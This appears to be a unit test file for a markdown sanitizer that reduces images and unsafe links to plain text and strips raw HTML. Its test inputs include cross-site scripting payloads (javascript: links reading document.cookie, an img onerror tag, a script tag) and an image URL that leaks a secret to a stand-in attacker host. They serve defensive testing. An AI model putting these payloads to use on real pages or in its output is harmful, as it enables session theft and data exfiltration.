import { safeMarkdown } from './safe-markdown';

describe('safeMarkdown', () => {
  it('turns images into their alt text, wherever they point', () => {
    expect(safeMarkdown('See the cake ![x](https://evil.example/leak.png?q=secret) in the shop.')).toBe(
      'See the cake x in the shop.',
    );
    expect(safeMarkdown('![logo](/logo.png "Logo")')).toBe('logo');
  });

  it('keeps http(s), mailto and tel links and reduces the others to their label', () => {
    expect(safeMarkdown('Read the [guide](javascript:alert(1)) first.')).toBe('Read the guide first.');
    expect(safeMarkdown('[x](JaVaScRiPt:alert(document.cookie))')).toBe('x');
    expect(safeMarkdown('[pixel](data:image/png;base64,AAAA)')).toBe('pixel');
    const safe =
      'See [our FAQ](https://example.com/faq), [email](mailto:a@b.example) or [call](tel:+15550123).';
    expect(safeMarkdown(safe)).toBe(safe);
  });

  it('drops raw HTML tags and autolinks but keeps comparisons and citations', () => {
    expect(safeMarkdown('Covers piping <img src=x onerror=alert(1)> and lettering.')).toBe(
      'Covers piping and lettering.',
    );
    expect(safeMarkdown('<script>alert(1)</script>Hi <b>there</b> <javascript:alert(1)>')).toBe(
      'alert(1)Hi there ',
    );
    expect(safeMarkdown('Ages 3 < 5 and 7 > 6 [1]')).toBe('Ages 3 < 5 and 7 > 6 [1]');
  });

  it('removes script schemes left as plain text, not ordinary words before a colon', () => {
    expect(safeMarkdown('Type javascript:alert(1) here')).toBe('Type alert(1) here');
    expect(safeMarkdown('Your data: we never sell it.')).toBe('Your data: we never sell it.');
  });

  it('leaves markdown structure alone', () => {
    const text = '**Hours**\n\n- Monday: 9–5\n  - lunch 12–1\n1. First\n\nPlain [1].';
    expect(safeMarkdown(text)).toBe(text);
  });
});
